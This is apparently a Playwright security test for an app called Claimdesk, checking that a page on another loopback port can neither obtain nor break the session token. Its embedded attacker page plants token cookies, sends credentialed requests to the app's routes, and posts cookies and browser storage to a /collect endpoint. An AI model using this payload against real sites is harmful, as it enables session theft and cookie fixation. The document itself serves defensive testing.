/**
 * The attack of issue 14 item 1, in a real browser: another program serves a page on another
 * loopback port, and the researcher's browser visits it while Claimdesk is open. Cookies ignore
 * ports (and SameSite counts two loopback ports as one site), so a cookie token would reach that
 * server and could be overwritten by it. The token must never reach it, and nothing it sets may
 * break the session.
 */
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, test } from './fixtures';

declare const sessionStorage: { getItem(key: string): string | null };

/** The attacker's page: plants cookies on the host and pokes the app's routes from its own origin. */
const attackPage = (
  app: string,
) => `<!doctype html><meta charset="utf-8"><title>cat pictures</title>
<body><img src="${app}/file/bundle.export"><script>
document.cookie = 'claimdesk_token=planted; path=/';
document.cookie = 'X-Claimdesk-Token=planted; path=/';
Promise.allSettled([
  fetch('${app}/rpc/documents.list', { method: 'POST', credentials: 'include', mode: 'no-cors',
    headers: { 'Content-Type': 'text/plain' }, body: '{}' }),
  fetch('${app}/file/bundle.export', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }),
  fetch('/collect', { method: 'POST', body: JSON.stringify({ cookie: document.cookie,
    storage: JSON.stringify(sessionStorage), localStorage: JSON.stringify(localStorage) }) }),
]).then(() => { document.title = 'done'; });
</script>`;

test('the token never reaches a server on another loopback port, and nothing it sets breaks the session', async ({
  page,
  fixturesDir,
}, testInfo) => {
  test.skip(testInfo.project.metadata.shell !== 'web', 'the serve shell is what a browser visits');
  const app = new URL(page.url()).origin;
  // the researcher opened the printed link: the token left the address bar and sits in this tab
  expect(page.url()).not.toContain('token');
  const token = await page.evaluate(() => sessionStorage.getItem('claimdesk-token'));
  expect(token).toMatch(/^[0-9a-f]{48}$/);

  const received: string[] = [];
  const record = (req: IncomingMessage, body: string) =>
    received.push(JSON.stringify({ url: req.url, headers: req.headers, body }));
  const attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      record(req, body);
      res.writeHead(200, {
        'Content-Type': 'text/html; charset=utf-8',
        // cookies set by another port land on the app's host too: they must not matter
        'Set-Cookie': [
          'claimdesk_token=planted; Path=/',
          'claimdesk_token=planted2; Path=/; SameSite=Strict',
        ],
      });
      res.end(attackPage(app));
    });
  });
  await new Promise<void>((ok) => attacker.listen(0, '127.0.0.1', ok));
  const port = (attacker.address() as AddressInfo).port;
  try {
    const visit = await page.context().newPage();
    for (const origin of [`http://localhost:${port}`, `http://127.0.0.1:${port}`]) {
      await visit.goto(`${origin}/`);
      await expect(visit).toHaveTitle('done');
    }
    // the researcher follows a link to the attacker in the app's own tab, then comes back
    await page.goto(`http://127.0.0.1:${port}/from-app`);
    await expect(page).toHaveTitle('done');
    await page.goBack();
    await visit.close();

    expect(received.length).toBeGreaterThanOrEqual(6);
    for (const request of received) expect(request).not.toContain(token!);

    // the session survives the planted cookies, a reload and the round trip above
    await page.reload();
    const chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: 'Import files' }).click();
    await (await chooser).setFiles(join(fixturesDir, 'sample.md'));
    await expect(page.getByRole('list', { name: 'Import progress' })).toContainText('Imported');
    await expect(page.getByText(/Access denied/)).toHaveCount(0);
  } finally {
    attacker.closeAllConnections();
    await new Promise<void>((ok) => attacker.close(() => ok()));
  }
});
